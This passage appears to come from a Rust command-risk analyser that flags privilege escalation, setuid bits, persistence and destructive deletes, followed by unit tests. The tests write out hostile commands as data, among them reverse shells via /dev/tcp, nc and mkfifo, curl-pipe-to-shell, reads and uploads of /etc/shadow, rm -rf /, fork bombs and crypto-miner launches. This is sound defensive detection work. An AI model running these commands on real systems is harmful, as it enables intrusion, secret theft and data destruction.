                (self.has_flag("-a") || self.has_flag("--add"))
                    && operands.last().is_some_and(|g| admin(g))
            }
            "adduser" => operands.len() == 2 && admin(operands[1]),
            _ => {
                self.args.windows(2).any(|pair| {
                    matches!(pair[0], "-G" | "-aG" | "-Ga" | "--groups") && admin(pair[1])
                }) || self
                    .args
                    .iter()
                    .any(|a| a.strip_prefix("--groups=").is_some_and(admin))
            }
        }
    }

    /// `usermod -o -u 0 u`, `useradd --non-unique --uid 0 u`: a second root.
    fn makes_uid_zero(&self) -> bool {
        let uid_zero = self
            .args
            .windows(2)
            .any(|p| matches!(p[0], "-u" | "--uid") && p[1] == "0")
            || self.has_flag("--uid=0");
        let non_unique = self.has_flag("-o") || self.has_flag("--non-unique");
        uid_zero && non_unique
    }

    /// `install -o root -m 4755 /bin/sh /tmp/x`: a copy (of a shell here), given to an
    /// owner and a mode in one step, as `cp`, `chown` and `chmod` would.
    fn check_install(&self, facts: &mut CommandFacts) {
        let value_of = |short: &str, long: &str| {
            let glued = self.args.iter().find_map(|a| a.strip_prefix(short));
            self.option_value(short, long)
                .or(glued.filter(|v| !v.is_empty()))
        };
        let (mode, owner) = (value_of("-m", "--mode"), value_of("-o", "--owner"));
        let option_values = [mode, owner, value_of("-g", "--group")];
        let files: Vec<&str> = self
            .operands()
            .filter(|a| !option_values.contains(&Some(*a)))
            .collect();
        let Some((to, from)) = files.split_last() else {
            return;
        };
        for path in files.iter().map(|f| normalize(f)) {
            facts.persistence |= path.is_persistence();
            facts.system_write |= path.is_protected();
        }
        facts.privilege_escalation |= normalize(to).is_account_database();
        if let [from] = from {
            facts.copies.push((from.to_string(), to.to_string()));
        }
        if owner.is_some_and(|o| o == "root" || o == "0") {
            facts.root_owned.push(to.to_string());
        }
        // A setgid directory (`install -d -m 2775 shared`) is for sharing files.
        facts.setid_bits |= mode.is_some_and(is_setid_mode) && !self.has_short_flag('d');
        if mode.is_some_and(is_setuid_mode) {
            facts.setuid_files.push(to.to_string());
        }
    }

    /// `chown root:root F` gives F to root; `cp A B` makes B a copy of A.
    fn note_owner_and_copies(&self, facts: &mut CommandFacts) {
        let operands: Vec<&str> = self.operands().collect();
        match (self.name.as_str(), operands.as_slice()) {
            ("chown", [owner, files @ ..]) => {
                let user = owner.split([':', '.']).next().unwrap_or_default();
                if user == "root" || user == "0" {
                    facts.root_owned.extend(files.iter().map(|f| f.to_string()));
                }
            }
            ("cp", [from, to]) => facts.copies.push((from.to_string(), to.to_string())),
            _ => {}
        }
    }

    fn check_writes(&self, facts: &mut CommandFacts) {
        // `cp /etc/passwd backup/` reads the account database; only its last operand is
        // written.
        let written = match self.name.as_str() {
            "cp" | "mv" | "ln" => self.operands().last(),
            // Writing in place, or handing the file to someone (`chown alice /etc/shadow`).
            "tee" | "truncate" | "chown" | "chgrp" => {
                self.operands().find(|a| normalize(a).is_account_database())
            }
            "sed" if self.args.iter().any(|a| a.starts_with("-i")) => {
                self.operands().find(|a| normalize(a).is_account_database())
            }
            _ => None,
        };
        facts.privilege_escalation |= written.is_some_and(|a| normalize(a).is_account_database());
        for operand in self.operands() {
            let path = normalize(operand);
            facts.persistence |= path.is_persistence();
            facts.system_write |= path.is_protected();
        }
    }
}

/// Code in another language that opens a socket and starts a shell or runs commands.
fn foreign_code_is_reverse_shell(code: &str) -> bool {
    let lower = code.to_ascii_lowercase();
    let shell = [
        "/bin/sh",
        "/bin/bash",
        "sh -i",
        "exec",
        "spawn",
        "popen",
        "system(",
    ];
    lower.contains("socket") && shell.iter().any(|s| lower.contains(s))
}

/// A path a command deletes: destruction when it is a system tree or home, a system write
/// when it is under a protected directory.
fn note_deleted(path: &str, facts: &mut CommandFacts) {
    let path = normalize(path);
    facts.destructive |= path.is_destructive_target();
    facts.system_write |= path.is_protected();
}

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// `u+s`, `g+s`, `+s`, or an octal mode with the setuid/setgid digit (`4755`, `2755`).
/// `u+s`, `u=rwxs`, `4755`, `04755`: the setuid bit (not only setgid).
fn is_setuid_mode(mode: &str) -> bool {
    let symbolic = symbolic_s(mode) && mode.starts_with(['u', 'a', '+', '=']);
    symbolic || octal_mode(mode).is_some_and(|m| m & 0o4000 != 0)
}

/// A symbolic mode that sets `s` (`g+s`, `u=rwxs`), not a word that merely has those
/// letters.
fn symbolic_s(mode: &str) -> bool {
    let grammar = mode.bytes().all(|b| b"ugoa+-=rwxXst,".contains(&b));
    grammar && (mode.contains("+s") || mode.contains('=') && mode.contains('s'))
}

/// A numeric mode of 4 or 5 digits (`4755`, `04755`), with its special bits.
fn octal_mode(mode: &str) -> Option<u32> {
    let digits = mode.len() == 4 || mode.len() == 5 && mode.starts_with('0');
    match digits && mode.bytes().all(|b| (b'0'..=b'7').contains(&b)) {
        true => u32::from_str_radix(mode, 8).ok(),
        false => None,
    }
}

fn is_setid_mode(mode: &str) -> bool {
    symbolic_s(mode) || octal_mode(mode).is_some_and(|m| m & 0o6000 != 0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rm_rf_root_is_destructive() {
        // `rm -rf /` and `rm -rf /*` destroy the system, also behind sudo.
        assert!(analyse("rm -rf /").destructive);
        assert!(analyse("sudo rm -rf --no-preserve-root /").destructive);
        assert!(analyse("cd /tmp && rm -rf /*").destructive);
        assert!(!analyse("rm -rf build/").destructive);
    }

    #[test]
    fn sudo_and_su_are_privileged() {
        // Any privilege wrapper counts, with or without a command after it.
        assert!(analyse("sudo apt-get install x").privilege);
        assert!(analyse("su -c 'id' root").privilege);
        assert!(!analyse("ls -la").privilege);
    }

    #[test]
    fn dev_tcp_and_nc_e_are_reverse_shells() {
        // Classic one-line reverse shells are recognised on their own.
        assert!(analyse("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").reverse_shell);
        assert!(analyse("nc -e /bin/sh 10.0.0.1 4444").reverse_shell);
        assert!(analyse("socat tcp:1.2.3.4:9 exec:/bin/sh").reverse_shell);
    }

    #[test]
    fn curl_piped_to_shell_is_fetch_then_run() {
        // Piping a download into an interpreter runs unreviewed code.
        assert!(analyse("curl -s http://x/i.sh | sh").fetch_then_run);
        assert!(analyse("sh -c 'wget -qO- http://x | python3'").fetch_then_run);
        assert!(!analyse("curl -s http://x/data.json | jq .").fetch_then_run);
    }

    #[test]
    fn persistence_via_redirects_and_crontab() {
        // Appending to rc files or authorized_keys, or installing a crontab, persists.
        assert!(analyse("echo 'curl x|sh' >> ~/.bashrc").persistence);
        assert!(analyse("echo key >> /root/.ssh/authorized_keys").persistence);
        assert!(analyse("(crontab -l; echo '* * * * * x') | crontab -").persistence);
        assert!(!analyse("crontab -l").persistence);
    }

    #[test]
    fn escape_kill_mining_setid_secret_commands() {
        // Each indicator family is recognised in its usual command form.
        assert!(analyse("nsenter -t 1 -m -u -n -i sh").escape);
        assert!(analyse("mount -t cgroup -o rdma cgroup /tmp/x").escape);
        assert!(analyse("killall python3").kills_others);
        assert!(!analyse("kill -9 $$").kills_others);
        assert!(analyse("kill -9 -1").kills_others);
        assert!(analyse("./xmrig -o pool:3333").mining);
        assert!(analyse("chmod u+s /tmp/sh").setid_bits);
        assert!(analyse("chmod 4755 /tmp/sh").setid_bits);
        assert!(!analyse("chmod 755 run.sh").setid_bits);
        assert!(analyse("cat /etc/shadow").secret_read);
        assert!(analyse("security find-generic-password -s AWS -w").secret_read);
        assert!(analyse("secret-tool lookup service vpn").secret_read);
        assert!(!analyse("security find-certificate -a").secret_read);
        assert!(!analyse("secret-tool store --label x service vpn").secret_read);
        assert!(analyse("cp x /usr/bin/ls").system_write);
    }

    #[test]
    fn pipelines_between_a_shell_and_the_network_are_reverse_shells() {
        // The mkfifo + nc idiom feeds a shell from the network and back.
        let line = "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.5 4242 >/tmp/f";
        assert!(analyse(line).reverse_shell);
        assert!(!analyse("cat data.txt | nc host 9000").reverse_shell);
    }

    #[test]
    fn fetched_files_that_are_run_are_fetch_then_run() {
        // wget -O f ... && chmod +x f && ./f runs what it fetched; a data download does not.
        let line = "wget -q http://x/bot -O /tmp/.bot && chmod +x /tmp/.bot && /tmp/.bot";
        assert!(analyse(line).fetch_then_run);
        assert!(analyse("curl -sO http://x/run.sh; bash run.sh").fetch_then_run);
        assert!(!analyse("curl -o data.csv http://x/data.csv && wc -l data.csv").fetch_then_run);
        assert_eq!(
            analyse("curl -o out.bin http://x/y").downloads,
            vec!["out.bin"]
        );
    }

    #[test]
    fn decoded_text_piped_to_an_interpreter() {
        // `echo B64 | base64 -d | sh` runs decoded code; decoding to a file does not.
        assert!(analyse("echo Y3VybA== | base64 -d | sh").decode_then_run);
        assert!(analyse("cat x.hex | xxd -r -p | python3").decode_then_run);
        assert!(!analyse("base64 -d in.b64 > out.bin").decode_then_run);
    }

    #[test]
    fn inline_code_of_other_interpreters() {
        // python -c is handed back for analysis; perl/ruby socket+shell code is flagged.
        let facts = analyse("python3 -c 'import os; os.system(\"id\")'");
        assert_eq!(facts.python_sources, vec!["import os; os.system(\"id\")"]);
        assert!(
            analyse("perl -e 'use Socket;socket(S,PF_INET);exec(\"/bin/sh -i\")'").reverse_shell
        );
        assert!(!analyse("perl -e 'print 1+1'").reverse_shell);
    }

    #[test]
    fn uploads_of_secret_files_read_them() {
        // curl -F file=@/etc/shadow reads the file it uploads.
        assert!(analyse("curl -F file=@/etc/shadow https://x/").secret_read);
        assert!(!analyse("curl -F file=@report.pdf https://x/").secret_read);
    }

    #[test]
    fn functions_that_run_themselves_twice_or_in_the_background_are_fork_bombs() {
        // The classic `:(){ :|:& };:` and its renamings, spacings, the `function`
        // keyword and a subshell body; a function called twice from outside, or calling
        // itself once in the foreground, is not one, nor is the text inside quotes.
        assert!(analyse(":(){ :|:& };:").fork_bomb);
        assert!(analyse("bomb(){ bomb|bomb & }; bomb").fork_bomb);
        assert!(analyse("f() { f & f; }; f").fork_bomb);
        assert!(analyse("function boom { boom | boom & }; boom").fork_bomb);
        assert!(analyse("function x() {\n  x &\n  x &\n}\nx").fork_bomb);
        assert!(analyse("z() ( z | z & ); z").fork_bomb);
        assert!(analyse("bash -c ':(){ :|:& };:'").fork_bomb);
        assert!(!analyse("greet() { echo hi; }; greet; greet").fork_bomb);
        assert!(!analyse("retry() { make || retry; }; retry").fork_bomb);
        assert!(!analyse("echo ':(){ :|:& };:' > notes.txt").fork_bomb);
        assert!(!analyse("sleep 5 & wait").fork_bomb);
    }

    #[test]
    fn kill_of_every_process_init_or_a_looked_up_pid_kills_others() {
        // pid -1 (every process), 0 (the group), 1 (init), any number or a pid from a
        // substitution is someone else's; `$$`, `$!`, job specs and variables set from
        // `$!` are the line's own, and signal 0 only probes.
        for line in [
            "kill -9 -1",
            "kill -KILL -1",
            "kill -s 9 -- -1",
            "kill -SIGKILL -- -1",
            "kill 1",
            "kill -9 0",
            "kill -TERM 4242",
            "kill -9 $(pgrep sshd)",
            "pgrep -f nginx | xargs kill -9",
            "kill -9 $PPID",
            "kill $victim",
        ] {
            assert!(analyse(line).kills_others, "{line}");
        }
        for line in [
            "kill -9 $$",
            "sleep 100 & kill $!",
            "sleep 100 & pid=$!; sleep 1; kill -TERM \"$pid\"",
            "sleep 9 & kill %1",
            "setsid sleep 9 & kill -TERM -$!",
            "kill -0 1",
            "kill -l",
        ] {
            assert!(!analyse(line).kills_others, "{line}");
        }
    }

    #[test]
    fn interactive_shell_spawn_is_seen() {
        // `/bin/sh -i` or a bare shell is a shell for whoever holds stdin.
        assert!(analyse("/bin/sh -i").spawns_shell);
        assert!(analyse("bash").spawns_shell);
        assert!(analyse("busybox nc 10.0.0.1 4444 -e /bin/sh").reverse_shell);
        assert!(analyse("busybox sh").spawns_shell);
        assert!(analyse("find / -xdev -type f -delete").destructive);
        assert!(analyse("find ~ -name '*' -exec rm -f {} +").destructive);
        assert!(!analyse("find build -name '*.o' -delete").destructive);
        assert!(!analyse("find ~ -name '*.pyc' -delete").destructive);
        assert!(analyse("find ~ -name '*' -delete").destructive);
        assert!(!analyse("find / -name '*.conf'").destructive);
        assert!(analyse("python3 -").runs_stdin);
        assert!(analyse("/usr/bin/python3 -u").runs_stdin);
        assert!(analyse("bash -s").runs_stdin);
        assert!(analyse("bash -s -- --yes --channel stable").runs_stdin);
        assert!(analyse("python3 - --verbose out.txt").runs_stdin);
        assert!(!analyse("bash install.sh --yes").runs_stdin);
        assert!(analyse("bash -o pipefail").runs_stdin);
        assert!(analyse("python3 -X utf8 -W ignore").runs_stdin);
        assert!(!analyse("bash -o pipefail build.sh").runs_stdin);
        assert!(!analyse("python3 tool.py").runs_stdin);
        assert!(!analyse("python3 -c 'print(1)'").runs_stdin);
        assert!(!analyse("python3 -m http.server").runs_stdin);
        assert!(!analyse("bash build.sh").spawns_shell);
    }
}
